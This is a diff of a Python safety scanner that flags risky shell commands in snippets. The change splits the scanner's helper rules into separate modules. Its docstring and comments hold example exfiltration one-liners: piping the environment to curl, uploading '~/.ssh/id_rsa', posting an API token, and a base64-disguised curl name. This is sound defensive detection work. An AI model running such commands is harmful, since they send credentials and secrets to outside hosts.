@@ -14,7 +14,10 @@ confidence) for commands in fenced shell blocks, inline code and command-like li
 * ``credential-upload``: the environment or a credential file sent to a URL (``env | curl -d @-``,
   ``curl -F f=@~/.ssh/id_rsa``, ``curl -d "k=$API_TOKEN" http://host``).
 
-The parser is tolerant: a snippet that does not parse still yields its commands. Nothing here runs code.
+What a command is (a download, an interpreter …) is decided in :mod:`~skillforge.safety.shell_rules`, the
+package-source and TLS rules are in :mod:`~skillforge.safety.shell_packages`, the credential rules in
+:mod:`~skillforge.safety.shell_uploads`. The parser is tolerant: a snippet that does not parse still yields
+its commands. Nothing here runs code.
 """
 
 from __future__ import annotations
@@ -27,6 +30,7 @@ from itertools import chain, islice
 from typing import Any
 
 from skillforge.safety.prefilter import contains_any, lowered
+from skillforge.safety.shell_packages import env_setting, plain_http_install, tls_off, untrusted_index
 from skillforge.safety.shell_rules import (
     DEFAULT_VALUES,
     DURATION,
@@ -34,21 +38,18 @@ from skillforge.safety.shell_rules import (
     WRAPPER_VALUES,
     WRAPPERS,
     base,
-    copies_out,
-    env_setting,
+    download_targets,
     fetches_and_evaluates,
     host_of,
     is_decoder,
     is_downloader,
     is_interpreter,
-    plain_http_install,
-    sensitive,
-    tls_off,
-    untrusted_index,
-    upload_args,
-    uploads,
+    program,
+    runs_stdin,
+    script,
 )
 from skillforge.safety.shell_scope import CommandIndex, Scope, scope_of
+from skillforge.safety.shell_uploads import copies_out, credential_upload, sensitive, uploads
 from skillforge.safety.snippets import SNIPPET_KEYS, snippets
 from skillforge.text import parse
 
@@ -166,7 +167,7 @@ def _pipeline(node: Any) -> Iterator[tuple[str, str, str]]:
         words(c) for child in node.children for c in ([child] if child.type == "command" else _grouped(child))
     ]
     for i, ws in enumerate(commands):
-        if not is_interpreter(ws) or (len(ws) > 1 and _reads_file_arg(ws)):
+        if not is_interpreter(ws) or not runs_stdin(ws):
             continue
         before = commands[:i]
         if any(is_downloader(w) for w in before):
@@ -174,13 +175,13 @@ def _pipeline(node: Any) -> Iterator[tuple[str, str, str]]:
                 re.search(r"\bsudo\s+(?:-\w*E|--preserve-env)", _text(node))
             )
             conf = "low" if _official_install(before) and not evasive else "high"
-            yield "pipe-to-shell", f"pipes a download into {base(ws[0])}", conf
+            yield "pipe-to-shell", f"pipes a download into {program(ws[0])}", conf
         elif any(is_decoder(w) for w in before):
-            yield "pipe-to-shell", f"feeds decoded data into {base(ws[0])}", "high"
+            yield "pipe-to-shell", f"feeds decoded data into {program(ws[0])}", "high"
         elif any(w and w[0].startswith(("$", "`")) for w in before):  # $(echo Y3VybA== | base64 -d) URL
             yield (
                 "pipe-to-shell",
-                f"pipes a command whose name is computed at run time into {base(ws[0])}",
+                f"pipes a command whose name is computed at run time into {program(ws[0])}",
                 "high",
             )
     yield from uploads(commands)
@@ -195,12 +196,6 @@ def _grouped(node: Any) -> list[Any]:
     return list(islice((c for c in _walk(node) if c.type == "command"), _GROUPED))
 
 
-def _reads_file_arg(ws: list[str]) -> bool:
-    """``python script.py`` reads its own file, not the pipe (``-`` or ``-c``/``-s`` keeps reading it)."""
-    args = [w for w in ws[1:] if not w.startswith("-")]
-    return bool(args) and "-s" not in ws and "-" not in ws
-
-
 def _official_install(commands: list[list[str]]) -> bool:
     """Every download is over https (an installer served by its vendor): shown, but low confidence."""
     urls = [w for ws in commands if is_downloader(ws) for w in ws[1:] if "://" in w]
@@ -211,33 +206,10 @@ def _official_install(commands: list[list[str]]) -> bool:
     )
 
 
-# interpreters' options that take the next word (python -W ignore x.py, bash -o pipefail x.sh)
-_VALUED = frozenset({"-W", "-X", "-o", "-O", "--rcfile", "--init-file", "-r", "--require", "-I"})
-
-
 def _ran_name(ws: list[str], files: Files) -> str:
     if "/" in ws[0] and base(ws[0]) in files:  # ./i.sh, /tmp/i.sh (but /usr/bin/bash i.sh runs i.sh)
         return base(ws[0])
-    return _script(ws)
-
-
-def _script(ws: list[str]) -> str:
-    """The file an interpreter runs: its first word that is no option nor an option's value (``python
-    summarize.py items.json`` runs summarize.py, items.json is its data); '' when it runs code given
-    inline or a module (``-c``, ``-e``, ``-m``)."""
-    skip = False
-    for i, w in enumerate(ws[1:], 1):
-        if skip:
-            skip = False
-        elif w == "--":
-            return base(ws[i + 1]) if i + 1 < len(ws) else ""
-        elif w in ("-c", "-e", "-m"):
-            return ""
-        elif w.startswith("-"):
-            skip = w in _VALUED
-        else:
-            return base(w)
-    return ""
+    return script(ws)
 
 
 def _runs_file(ws: list[str], files: Files, snippet_id: int) -> tuple[str, str, str] | None:
@@ -248,8 +220,8 @@ def _runs_file(ws: list[str], files: Files, snippet_id: int) -> tuple[str, str, 
     name = base(ws[0])
     if "/" in ws[0] and name in files and not name.endswith((".md", ".txt", ".json", ".html")):
         target = name
-    elif name in INTERPRETERS and _script(ws) in files:
-        target = _script(ws)
+    elif program(name) in INTERPRETERS and script(ws) in files:
+        target = script(ws)
     else:
         return None
     _, plain, _ = files[target]
@@ -261,9 +233,9 @@ def _command(node: Any, ws: list[str], files: Files, snippet_id: int) -> Iterato
     if not ws:
         yield from _env_assignments(node)
         return
-    name = base(ws[0])
+    name = program(ws[0])
     yield from _env_assignments(node)
-    if name in INTERPRETERS or name in ("sh", "bash"):
+    if name in INTERPRETERS:
         for sub in _walk(node):
             if sub.type in ("command_substitution", "process_substitution") and sub is not node:
                 inner = [words(c) for c in _walk(sub) if c.type == "command"]
@@ -279,16 +251,8 @@ def _command(node: Any, ws: list[str], files: Files, snippet_id: int) -> Iterato
             any(u.startswith("http://") for u in urls),
             tuple(host_of(u).lower() for u in urls),
         )
-        files.update(dict.fromkeys(_download_targets(ws), entry))
-        why = upload_args(ws)
-        if why:
-            urls = [w for w in ws[1:] if "://" in w]
-            known = bool(urls) and all(u.startswith("https://") for u in urls)
-            yield (
-                "credential-upload",
-                f"{why} to {', '.join(host_of(u) for u in urls) or 'a URL'}",
-                "low" if (known or not urls) and "variable" in why else "high",
-            )
+        files.update(dict.fromkeys(download_targets(ws), entry))
+    yield from credential_upload(ws)
     yield from fetches_and_evaluates(ws)
     yield from tls_off(ws)
     yield from untrusted_index(ws)
@@ -296,7 +260,7 @@ def _command(node: Any, ws: list[str], files: Files, snippet_id: int) -> Iterato
     yield from copies_out(ws)
 
 
-_STDIN_CODE = frozenset({"python", "node", "perl", "ruby", "php", "deno", "bun"})
+_STDIN_CODE = frozenset({"python", "node", "perl", "ruby", "php", "deno", "bun"})  # program() names
 
 
 def _heredoc(node: Any, files: Files, snippet_id: int) -> Iterator[tuple[str, str, str]]:
@@ -306,8 +270,8 @@ def _heredoc(node: Any, files: Files, snippet_id: int) -> Iterator[tuple[str, st
     ws = words(body) if body is not None else []
     if not ws:
         return
-    name = base(ws[0])
-    reads_stdin = not _script(ws) and "-c" not in ws and "-e" not in ws
+    name = program(ws[0])
+    reads_stdin = runs_stdin(ws)
     for doc in (d for c in node.children if c.type == "heredoc_redirect" for d in c.children):
         if doc.type != "heredoc_body" or not reads_stdin:
             continue
@@ -317,45 +281,25 @@ def _heredoc(node: Any, files: Files, snippet_id: int) -> Iterator[tuple[str, st
             subs = [s for s in _walk(doc) if s.type == "command_substitution"]  # expanded: <<EOF, not <<'EOF'
             if any(is_downloader(words(c)) for s in subs for c in _walk(s) if c.type == "command"):
                 yield "pipe-to-shell", f"{name} runs a download expanded into its here-document", "high"
-        elif name.rstrip("0123456789.") in _STDIN_CODE:
+        elif program(name) in _STDIN_CODE:
             yield from fetches_and_evaluates([name, "-c", _text(doc)])
 
 
-_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "ash", "su"})
+_SHELLS = frozenset(
+    {"sh", "bash", "zsh", "dash", "ksh", "mksh", "lksh", "pdksh", "yash", "posh", "ash", "su"}
+)
 
 
 def _inner_script(ws: list[str], files: Files, snippet_id: int) -> Iterator[tuple[str, str, str]]:
     """``sh -c "curl … | sh"``: the script a shell runs from a string is checked as a script (each
     level strips one layer of quotes, so nesting ends)."""
-    if base(ws[0]) not in _SHELLS:
+    if program(ws[0]) not in _SHELLS:
         return
     for i, w in enumerate(ws[1:-1], 1):
         if w.startswith("-") and not w.startswith("--") and "c" in w:
             for rule, message, conf, _, _ in analyse(ws[i + 1], files, snippet_id):
                 yield rule, message, conf
             return
-
-
-_SHORT_OUTPUT = re.compile(r"-[A-Za-z]*?([oO])(.*)")  # -o F, -sLo F, -qO F, and glued: -o/tmp/i.sh, -qO-
-
-
-def _download_targets(ws: list[str]) -> set[str]:
-    """The files a download writes: the value of its output option, in any of getopt's spellings
-    (``-o F``, ``-sLoF``, ``--output F``, ``--output=F``), or the URL's name (wget, curl -O)."""
-    out: set[str] = set()
-    for i, w in enumerate(ws):
-        following = ws[i + 1] if i + 1 < len(ws) else ""
-        flag, eq, value = w.partition("=")
-        short = _SHORT_OUTPUT.fullmatch(w)
-        if flag in ("--output", "--output-document"):
-            out.add(base(value if eq else following))
-        elif short and not (short[2] and short[1] == "O" and base(ws[0]) == "curl"):  # curl -O takes none
-            out.add(base(short[2] or following))
-    if base(ws[0]) == "wget" and not out:
-        out.update(base(w.split("?")[0]) for w in ws[1:] if "://" in w)
-    if base(ws[0]) == "curl" and ("-O" in ws or "--remote-name" in ws):
-        out.update(base(w.split("?")[0]) for w in ws[1:] if "://" in w)
-    return {o for o in out if o and o != "-"}
 
 
 def _redirects(
